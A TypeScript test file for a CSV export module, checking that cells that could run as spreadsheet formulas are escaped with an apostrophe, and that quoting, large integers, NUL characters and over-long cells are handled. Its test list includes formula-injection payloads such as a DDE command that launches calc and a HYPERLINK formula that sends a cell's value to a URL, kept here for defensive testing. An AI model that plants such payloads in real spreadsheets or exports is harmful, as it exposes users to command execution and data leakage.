import assert from 'node:assert/strict';
import { test } from 'node:test';
import Papa from 'papaparse';
import { CELL_LIMIT, csvLine, EXCEL_CELL_LIMIT, type CsvOptions, type CsvStats } from './csv.js';
import { guardText, unguardText } from './export/formulas.js';

const none = (): CsvStats => ({ guarded: 0, long: 0, cut: 0, nul: 0 });
const csvText = (rows: readonly (readonly unknown[])[], stats: CsvStats, options?: CsvOptions): string =>
  rows.map(row => csvLine(row, stats, options)).join('');
const read = (text: string): string[][] => Papa.parse<string[]>(text, { skipEmptyLines: false }).data.slice(0, -1);

/** Everything issue and OWASP name, in front, after white space, with apostrophes, full width. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\tplain',
  ' =1',
  '\u00a0\u2003=1',
  '\ufeff=1',
  '＝1',
  '＋1',
  '－1',
  '＠a',
  "'=1",
  "''=1",
  "' -1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?"&A1,"click")',
];
const HARMLESS = ['', 'a=1', "'plain", "it's", '(=1)', '{"a":"=1"}', '\u202eabc', '123', ' a', "'"];

test('puts an apostrophe in front of what could run, and of nothing else', () => {
  for (const text of FORMULAS) assert.equal(guardText(text), `'${text}`, JSON.stringify(text));
  for (const text of HARMLESS) assert.equal(guardText(text), text, JSON.stringify(text));
});

test('guarding is undone exactly, for any text', () => {
  for (const text of [...FORMULAS, ...HARMLESS]) assert.equal(unguardText(guardText(text)), text);
  let seed = 7;
  const signs = ["'", ' ', '=', '\t', '-', 'a', '\r', '＝', '"', ','];
  for (let i = 0; i < 5_000; i += 1) {
    let text = '';
    for (let k = 0; k < 5; k += 1) {
      seed = (seed * 48_271) % 2_147_483_647;
      text += signs[seed % signs.length]!;
    }
    assert.equal(unguardText(guardText(text)), text, JSON.stringify(text));
  }
});

test('every text comes back from another reader as it was', () => {
  const texts = [
    ...FORMULAS,
    ...HARMLESS,
    'a"b',
    '""',
    'a,b;c\td',
    'one\ntwo',
    'one\r\ntwo',
    'x'.repeat(100_000),
    '🙂',
  ];
  const rows = texts.map((text, index) => [index, text, `${text}|`]);
  const back = read(csvText(rows, none()));
  assert.equal(back.length, rows.length);
  back.forEach((row, index) => {
    assert.deepEqual(
      [row[0], unguardText(row[1]!), unguardText(row[2]!)],
      [String(index), texts[index], `${texts[index]}|`],
    );
  });
});

test('quotes texts and long integers, but neither numbers nor nothing', () => {
  const row = ['007', 7, -5, 1.5, true, null, '', 9007199254740993n, -9007199254740993n, 12n, 1e21, -0];
  assert.equal(
    csvText([row], none()),
    '"007",7,-5,1.5,true,,"","9007199254740993","-9007199254740993",12,"1e+21","-0"\r\n',
  );
});

test('counts what it did to cells', () => {
  const stats = none();
  const text = csvText([['=1', 'a\0b', 'x'.repeat(32_768), 'y'.repeat(32_767), 'z']], stats);
  assert.deepEqual(stats, { guarded: 1, long: 1, cut: 0, nul: 1 });
  assert.ok(text.startsWith('"\'=1","a␀b","xxx'));
});

test('writes ordinary rows, which are joined, byte for byte as papaparse writes the same cells', () => {
  const long = 'x'.repeat(EXCEL_CELL_LIMIT + 1);
  const values: unknown[] = [
    ...FORMULAS,
    ...HARMLESS,
    ...['a"b', '"', '""', 'a,b', 'one\r\ntwo', '\0', 'a\0"b', '=\0', long, '\ud800', '🙂', '\u2028', 'constructor'],
    ...[0, -0, 1, -1, 0.1, -1e-7, 1e15, 999_999_999_999_999, 1e15 + 1, 2 ** 53, 1e21, NaN, Infinity, -Infinity],
    ...[0n, 7n, -9007199254740993n, true, false, null, undefined, Symbol('s'), () => 1],
    ...[{}, [], { a: 'b"c' }, ['=1', null, { 'k"': '\0' }], { a: long }, { a: 1n }, { a: undefined }, new Date(0)],
  ];
  let seed = 11;
  const any = (): unknown => {
    seed = (seed * 48_271) % 2_147_483_647;
    return values[seed % values.length];
  };
  for (const options of [{ guard: true }, { guard: false }]) {
    for (let i = 0; i < 3_000; i += 1) {
      const row = i < values.length ? [values[i]] : [any(), any(), any()];
      // A bigint is never joined, so this row is papaparse's.
      const [line, theirs] = [none(), none()];
      assert.equal(
        `${csvLine(row, line, options).slice(0, -2)},1\r\n`,
        csvLine([...row, 1n], theirs, options),
        JSON.stringify(row.map(String)),
      );
      assert.deepEqual(line, theirs);
    }
  }
});

test('cuts what no engine could hold quoted, and says so in the cell', () => {
  const stats = none();
  const [[cell]] = read(csvText([['x'.repeat(CELL_LIMIT + 5)]], stats)) as [[string]];
  assert.equal(stats.cut, 1);
  assert.ok(cell.endsWith('x … [Truncated]'));
});

test('guards nothing when told so', () => {
  assert.equal(csvText([['=1']], none(), { guard: false }), '"=1"\r\n');
  assert.equal(csvText([], none()), '');
});
